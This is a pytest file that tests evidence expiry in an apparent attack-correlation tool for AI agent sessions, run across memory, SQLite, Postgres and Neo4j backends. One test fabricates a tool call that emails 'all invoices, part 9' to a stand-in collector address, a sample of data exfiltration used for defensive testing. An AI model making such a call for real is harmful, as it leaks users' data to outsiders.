"""What is too old goes, and takes no story with it."""

from collections.abc import Iterator
from pathlib import Path

import pytest
from sqlalchemy import select, update

from correlator.casebook import Casebook
from correlator.casebook.tables import SessionRow
from correlator.cli.desk import opened
from correlator.dispatch import Nobody
from correlator.duties import Duties
from correlator.ingest import Desk, accept, ingest
from correlator.retention import DAY_NS, cited, evidence, expire
from correlator.settings import Settings
from graph.store import Projection
from sensor.event import Event, FileOpened, ProcessId, ToolCalled
from sensor.redact import redact
from sensor.sources import read_any
from tests.correlator.recorded import LOW, messages, recorded
from tests.correlator.test_memory import later, lured

FUTURE_NS = 2**62


@pytest.fixture(params=["memory", "sqlite", "postgres", pytest.param("neo4j", marks=pytest.mark.xdist_group("neo4j"))])
def settings(request: pytest.FixtureRequest, tmp_path: Path) -> Settings:
    found = Settings(store=tmp_path / "store", threshold=LOW, backend="memory")
    if request.param == "memory":
        return found
    if request.param == "sqlite":
        return found.model_copy(update={"backend": "sqlite"})
    database = request.getfixturevalue("postgres_database")
    if request.param == "postgres":
        return found.model_copy(update={"backend": "sql", "database": database})
    bolt = request.getfixturevalue("neo4j_server").bolt
    return found.model_copy(update={"backend": "neo4j", "database": database, "neo4j": bolt})


@pytest.fixture
def desk(settings: Settings) -> Iterator[Desk]:
    with opened(settings) as desk:
        if isinstance(desk.graph, Projection):
            desk.graph.rebuild()  # the server is that of all tests
        yield desk


def taken(desk: Desk, path: Path) -> list[Event]:
    """Ingest a file and return its events as they are stored."""
    ingest([(path.name, path)], desk)
    return [redact(event, desk.key) for event in read_any(path)]


def everything(desk: Desk) -> tuple[int, int, int]:
    """Remove all that there is, and return how much that was."""
    done = expire(desk.graph, desk.casebook, "local", FUTURE_NS)
    return done.sessions, done.observations, done.kept


def chats(tmp_path: Path) -> Path:
    """Return a file with an attack and a clean session."""
    clean = [{"role": "user", "content": "What is two and two?"}, {"role": "assistant", "content": "Four."}]
    return recorded(tmp_path / "chats.jsonl", messages(), clean)


def test_a_story_outlives_its_evidence_with_what_it_cites_and_a_digest(desk: Desk, tmp_path: Path) -> None:
    events = taken(desk, chats(tmp_path))
    (before,) = desk.casebook.stories("local")
    mine = [event for event in events if event.session == before.story.session]
    hops = desk.graph.subgraph(before.story.session).edges()

    sessions, observations, kept = everything(desk)

    assert (sessions, observations + kept) == (2, len(events))
    (after,) = desk.casebook.stories("local")
    assert after.story == before.story
    assert after.evidence == evidence(mine)
    left = desk.graph.events(before.story.session)
    assert {event.entity for event in left} == {event.entity for event in mine} & cited(before.story)
    assert 0 < len(left) < len(mine)
    skeleton = desk.graph.subgraph(before.story.session).edges()
    assert {edge for edge in hops if edge.label == "CARRIED"} <= set(skeleton)
    assert everything(desk) == (0, 0, 0)


def test_nothing_that_arrived_later_expires(desk: Desk, tmp_path: Path) -> None:
    taken(desk, chats(tmp_path))
    before_ns = desk.casebook.now_ns() - 3_600 * 10**9
    assert expire(desk.graph, desk.casebook, "local", before_ns).sessions == 0
    assert desk.graph.counts().events > 0


def test_a_session_that_goes_on_later_is_judged_and_takes_no_story_back(desk: Desk, tmp_path: Path) -> None:
    chat = messages(sends=2)
    events = taken(desk, recorded(tmp_path / "chat.jsonl", chat))
    everything(desk)
    (before,) = desk.casebook.stories("local")
    assert not desk.casebook.waiting("local")

    # Who teaches or stores something later has others judged again; not those of which nothing is there any more.
    desk.casebook.reconsider("local", [before.story.session])
    assert not desk.casebook.waiting("local")

    last = next(event for event in reversed(events) if isinstance(event, ToolCalled))
    more = last.model_copy(update={
        "position": last.position + 10, "call_id": "more",
        "arguments": {"to": "archive@collector.example.net", "body": "all invoices, part 9"},
    })  # fmt: skip
    accept(desk, [more], Nobody())
    desk.clear()

    after = desk.casebook.story("local", before.story.id)
    assert after.standing == "open"
    assert after.evidence == before.evidence
    assert more.entity in {effect.event for effect in after.story.effects}


def test_a_recording_that_is_read_again_tells_the_same_story(desk: Desk, tmp_path: Path) -> None:
    path = chats(tmp_path)
    taken(desk, path)
    (before,) = desk.casebook.stories("local")
    everything(desk)
    taken(desk, path)
    (after,) = desk.casebook.stories("local")
    assert after.story == before.story
    sessions, observations, kept = everything(desk)
    assert (sessions, observations > 0, kept > 0) == (2, True, True)
    (again,) = desk.casebook.stories("local")
    assert again.evidence == after.evidence


def test_what_a_younger_session_has_read_stays(desk: Desk, tmp_path: Path) -> None:
    (tmp_path / "first.json").write_text(lured())
    (tmp_path / "second.json").write_text(later())
    first = taken(desk, tmp_path / "first.json")[0].session
    between_ns = desk.casebook.now_ns()
    taken(desk, tmp_path / "second.json")
    (told,) = [one for one in desk.casebook.stories("local") if one.story.session != first]
    assert told.story.origin.session == first

    expire(desk.graph, desk.casebook, "local", between_ns)
    desk.casebook.reconsider("local", [told.story.session])
    desk.clear()

    assert desk.casebook.story("local", told.story.id).story == told.story
    assert everything(desk)[0] == 2


def test_what_no_session_is_known_for_expires_by_its_own_time(desk: Desk) -> None:
    process = ProcessId(boot_id="b", pid=7, started_ns=1)
    opened = [
        FileOpened(session="", source="kernel", position=at_ns, at_ns=at_ns, process=process, path=f"/{at_ns}")
        for at_ns in (100, 200)
    ]
    desk.graph.merge(opened)
    assert expire(desk.graph, desk.casebook, "local", 150).unplaced == 1
    assert desk.graph.unplaced(0, 1_000) == opened[1:]


class Dies(Exception):
    """What a crash is here."""


def test_a_crash_in_the_middle_leaves_nothing_but_work(
    desk: Desk, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    events = taken(desk, chats(tmp_path))
    (before,) = desk.casebook.stories("local")

    def die(*_: object) -> None:
        raise Dies

    with monkeypatch.context() as patched:
        patched.setattr(Casebook, "end_expiry", die)
        for _ in range(3):
            with pytest.raises(Dies):
                everything(desk)
    everything(desk)

    (after,) = desk.casebook.stories("local")
    assert after.story == before.story
    assert after.evidence == evidence(event for event in events if event.session == before.story.session)
    assert everything(desk) == (0, 0, 0)


class Notes:
    """Remembers who was woken."""

    def __init__(self) -> None:
        self.woken: list[tuple[str, str]] = []

    def wake(self, task: str, tenant: str = "") -> None:
        self.woken.append((task, tenant))


def test_workers_remove_what_is_older_than_the_settings_say(postgres_database: str, tmp_path: Path) -> None:
    settings = Settings(
        store=tmp_path / "store", backend="sql", database=postgres_database, threshold=LOW, keep_days=30
    )
    with opened(settings) as desk, Duties.opened(settings) as duties:
        taken(desk, chats(tmp_path))
        notes = Notes()
        duties.schedule(notes)
        assert notes.woken == [("expire", "local")]
        assert not duties.expire("local")
        assert desk.graph.counts().sessions == 2

        with desk.casebook.writing() as db:
            db.execute(update(SessionRow).values(arrived_ns=desk.casebook.now_ns() - 31 * DAY_NS))
        assert duties.expire("local", at_most_s=-1)  # there is more
        assert not duties.expire("local")
        assert [one.expired for one in rows(desk)] == [2, 2]
        assert len(desk.casebook.stories("local")) == 1


def rows(desk: Desk) -> list[SessionRow]:
    with desk.casebook.reading() as db:
        return list(db.scalars(select(SessionRow)))
